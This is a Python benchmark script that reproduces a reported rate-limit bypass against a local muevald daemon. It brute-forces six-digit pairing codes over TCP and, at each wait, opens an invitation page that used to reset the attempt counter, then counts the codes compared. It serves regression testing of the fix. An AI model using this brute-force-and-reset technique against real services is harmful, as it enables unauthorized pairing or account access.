#!/usr/bin/env python3
"""Issue 38's attacks on the public edge, measured against a muevald binary (docs/SECURITY.md).

reset: for one minute, under the default limits, an attacker on one address sends wrong pairing codes over
    TCP and, whenever it is told to wait, waits and then opens the invitation page of its own invitation
    (`/i/CODE`), which used to clear the address's count. Prints the wrong codes compared in that minute
    (the limits allow 8; the release build of 2026-11-28 compared 171).

    Benchmarks/edge_attacks.py reset --muevald .build-release/release/muevald --muevalctl .build-release/release/muevalctl
"""
import argparse, json, os, re, shutil, socket, sqlite3, subprocess, tempfile, time, urllib.error, urllib.request

INVITATION = "2345abcdef"


class Daemon:
    """A muevald on a loopback port of its choosing, with its console, in a directory of its own."""

    def __init__(self, muevald, muevalctl):
        self.directory = tempfile.mkdtemp(prefix="mueval-edge-")
        self.muevalctl = muevalctl
        self.socket = os.path.join(self.directory, "ctl.sock")
        self.log = open(os.path.join(self.directory, "log"), "w")
        self.process = subprocess.Popen([muevald, "--data-dir", os.path.join(self.directory, "data"), "--socket", self.socket,
                                         "--listen", "127.0.0.1:0", "--no-zeroconf"], stdout=self.log, stderr=self.log)
        self.port = self.until(lambda: json.loads(self.ctl("status", "--json"))["listen"]["port"])
        self.console = self.until(lambda: re.search(r"(https?://[^/\s]+)/login", self.ctl("console")).group(1))

    def ctl(self, *arguments):
        run = subprocess.run([self.muevalctl, "--socket", self.socket, *arguments], capture_output=True, text=True, timeout=30)
        if run.returncode != 0:
            raise RuntimeError(f"muevalctl {' '.join(arguments)}: {run.stderr.strip()}")
        return run.stdout

    @staticmethod
    def until(read, seconds=30):
        deadline = time.monotonic() + seconds
        while True:
            try:
                return read()
            except Exception:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.2)

    def close(self):
        self.process.terminate()
        self.process.wait(timeout=30)
        shutil.rmtree(self.directory, ignore_errors=True)


def hello(port, pairing):
    """One connection presenting a pairing code: the server's reply."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(("<hello><key>protocolVersion</key><integer>1</integer><key>deviceId</key><string>intruder</string>"
                            f"<key>pairing</key><string>{pairing:06d}</string></hello>").encode())
        reply = b""
        while b"</error>" not in reply and b"</welcome>" not in reply:
            chunk = connection.recv(4096)
            if not chunk:
                break
            reply += chunk
        return reply.decode(errors="replace")


def reset(daemon, seconds):
    daemon.ctl("study", "create", "remote")
    daemon.ctl("study", "iteration", "add", "remote")
    # The attacker's own invitation, written into the catalog as the tests' Catalog.createInvitations does.
    now = time.time()
    with sqlite3.connect(os.path.join(daemon.directory, "data", "catalog.sqlite")) as catalog:
        study = catalog.execute("SELECT id FROM studies WHERE name = 'remote'").fetchone()[0]
        catalog.execute("INSERT INTO invitations(code, study, iteration, participant, status, created, expires) VALUES (?, ?, 1, 'TAAAAA', 'invited', ?, ?)",
                        (INVITATION, study, now, now + 3600))
    started = daemon.ctl("start", "--name", "lab", "--pairing-code")
    right = int(re.search(r"pairing code (\d{6})", started).group(1))
    compared = attempts = 0
    guess = right + 1
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        reply = hello(daemon.port, guess % 1_000_000)
        attempts += 1
        guess += 1
        compared += "wrong pairing code" in reply
        wait = re.search(r"(?:try again in|the next attempt in) (\d+) s", reply)
        if wait:
            time.sleep(int(wait.group(1)) + 0.05)
            try:
                urllib.request.urlopen(f"{daemon.console}/i/{INVITATION}", timeout=10).read()
            except urllib.error.HTTPError:
                pass
    print(f"reset: {compared} wrong pairing codes compared of {attempts} attempts in {seconds} s")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=["reset"])
    parser.add_argument("--muevald", default=".build-release/release/muevald")
    parser.add_argument("--muevalctl", default=".build-release/release/muevalctl")
    parser.add_argument("--seconds", type=int, default=60)
    arguments = parser.parse_args()
    daemon = Daemon(arguments.muevald, arguments.muevalctl)
    try:
        reset(daemon, arguments.seconds)
    finally:
        daemon.close()


if __name__ == "__main__":
    main()
